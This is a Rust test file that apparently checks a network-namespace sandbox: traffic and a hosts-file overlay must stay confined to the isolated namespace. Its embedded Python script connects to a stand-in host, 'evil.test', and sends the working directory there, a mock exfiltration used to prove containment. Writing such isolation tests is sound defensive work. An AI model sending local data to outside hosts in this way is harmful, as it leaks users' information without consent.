//! Separate namespaces: their traffic arrives at the sockets here, and nowhere else.

use belljar_sys::apart::{Apart, ApartSpec, Enter};
use belljar_testkit::require;
use std::io::Read;
use std::process::Command;

#[test]
fn what_is_said_there_is_heard_here_and_files_are_seen_there_alone() {
    require!(UserNs);
    let directory = tempfile::tempdir().unwrap();
    std::fs::write(directory.path().join("hosts"), "10.99.0.3 evil.test\n").unwrap();
    let spec = ApartSpec {
        ranges: vec![("10.99.0.0".parse().unwrap(), 24)],
        over: vec![(directory.path().join("hosts"), "/etc/hosts".into())],
        tcp: vec!["10.99.0.3:80".parse().unwrap()],
        udp: vec!["10.99.0.53:53".parse().unwrap()],
    };
    let place = Apart::make(&spec, || {
        loop {
            std::thread::park();
        }
    })
    .unwrap();
    let script = "import os, socket\n\
                  socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'datagram', ('10.99.0.53', 53))\n\
                  socket.create_connection(('evil.test', 80), 5).send(os.getcwd().encode())\n";
    let mut command = Command::new("python3");
    let status = command.args(["-c", script]).enters(&place, directory.path()).unwrap().status().unwrap();
    assert!(status.success());
    let mut said = String::new();
    place.tcp[0].accept().unwrap().0.read_to_string(&mut said).unwrap();
    assert_eq!(said, directory.path().to_str().unwrap());
    let mut datagram = [0; 64];
    let (length, _) = place.udp[0].recv_from(&mut datagram).unwrap();
    assert_eq!(&datagram[..length], b"datagram");
    assert!(!std::fs::read_to_string("/etc/hosts").unwrap().contains("evil.test"));
    let taken = ApartSpec { udp: spec.udp, ..ApartSpec::default() };
    let refused = Apart::make(&taken, || {}).unwrap_err().to_string();
    assert!(refused.contains("10.99.0.53:53"), "{refused}");
}
